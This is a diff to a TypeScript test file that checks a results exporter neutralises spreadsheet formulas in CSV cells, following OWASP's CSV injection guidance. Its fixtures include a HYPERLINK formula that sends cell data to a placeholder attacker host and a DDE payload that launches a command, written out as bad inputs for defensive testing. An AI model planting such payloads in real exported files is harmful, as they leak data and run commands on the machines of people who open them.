@@ -2,7 +2,9 @@ import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { InputError } from '../../../src/core/errors.ts';
 import { parsePromptSet } from '../../../src/core/io/promptSet.ts';
-import { RESULT_CSV_COLUMNS, type ScoredRow, parseResultsCsv, parseResultsJsonl, resultsToCsv, resultsToJsonl } from '../../../src/core/io/results.ts';
+import {
+  RESULT_CSV_COLUMNS, type ScoredRow, neutraliseCsvCell, parseResultsCsv, parseResultsJsonl, resultsToCsv, resultsToJsonl,
+} from '../../../src/core/io/results.ts';
 
 const ROWS: ScoredRow[] = [
   {
@@ -57,6 +59,43 @@ describe('resultsToCsv', () => {
     const set = parsePromptSet(resultsToCsv([ROWS[0], ROWS[2]]), 'results.csv');
     expect(set.format).toBe('csv');
     expect(set.rows.map((r) => [r.prompt, r.tag])).toEqual([['a photo of two red circles', 'color_count'], ['a photo of a circle', null]]);
+  });
+});
+
+// OWASP's CSV injection rule: text cells that a spreadsheet would run as a formula are written with a
+// leading apostrophe, read back to the original text; numeric cells are never touched.
+describe('CSV export neutralises formulas', () => {
+  const base = ROWS[2];
+  const column = (name: (typeof RESULT_CSV_COLUMNS)[number]) => RESULT_CSV_COLUMNS.indexOf(name);
+  const cases: [string, Partial<ScoredRow>, (typeof RESULT_CSV_COLUMNS)[number], string][] = [
+    ['bad input: tag starting with = is written as text', { tag: '=HYPERLINK("https://evil.example/?x="&A1,"click")' }, 'tag', `'=HYPERLINK("https://evil.example/?x="&A1,"click")`],
+    ['bad input: tag starting with + is written as text', { tag: '+1+cmd|\' /C calc\'!A0' }, 'tag', `'+1+cmd|' /C calc'!A0`],
+    ['bad input: tag starting with - is written as text', { tag: '-2+3' }, 'tag', `'-2+3`],
+    ['bad input: tag starting with @ is written as text', { tag: '@SUM(1+1)' }, 'tag', `'@SUM(1+1)`],
+    ['bad input: tag starting with a tab is written as text', { tag: '\t=1+1' }, 'tag', `'\t=1+1`],
+    ['bad input: tag starting with a carriage return is written as text', { tag: '\r=1+1' }, 'tag', `'\r=1+1`],
+    ['bad input: tag that looks like a negative number is written as text', { tag: '-0.5' }, 'tag', `'-0.5`],
+    ['bad input: prompt starting with = is written as text', { prompt: '=1+1' }, 'prompt', `'=1+1`],
+    ['bad input: lowest word starting with @ is written as text', { lowestWord: '@x' }, 'lowest_word', `'@x`],
+    ['bad input: judge reason starting with = is written as text', { judgeReasons: ['=1+1', 'ok'] }, 'judge_reasons', `'=1+1 | ok`],
+    ['bad input: per-token word starting with + is written as text', { perToken: [{ word: '+x', p: 0.5 }] }, 'per_token', `'+x:0.5`],
+    ['bad input: tag already starting with an apostrophe before = keeps it', { tag: `'=1+1` }, 'tag', `''=1+1`],
+  ];
+
+  it.each(cases)('%s', (_name, change, name, written) => {
+    const row = { ...base, ...change };
+    const csv = resultsToCsv([row]);
+    expect(Papa.parse<string[]>(csv, { skipEmptyLines: true }).data[1][column(name)]).toBe(written);
+    expect(parseResultsCsv(csv, 'r.csv')).toEqual([row]);
+  });
+
+  it('leaves numbers, negative ones included, and ordinary text alone', () => {
+    const row = { ...base, seed: -7, reward: -0.5, lowestP: -1e-7, tag: "it's fine", prompt: 'a photo of a circle' };
+    const cells = Papa.parse<string[]>(resultsToCsv([row]), { skipEmptyLines: true }).data[1];
+    expect([cells[column('seed')], cells[column('reward')], cells[column('lowest_p')]]).toEqual(['-7', '-0.5', '-1e-7']);
+    expect([cells[column('tag')], cells[column('prompt')]]).toEqual(["it's fine", 'a photo of a circle']);
+    expect(neutraliseCsvCell("'hello")).toBe("'hello");
+    expect(parseResultsCsv(resultsToCsv([row]), 'r.csv')).toEqual([row]);
   });
 });
 
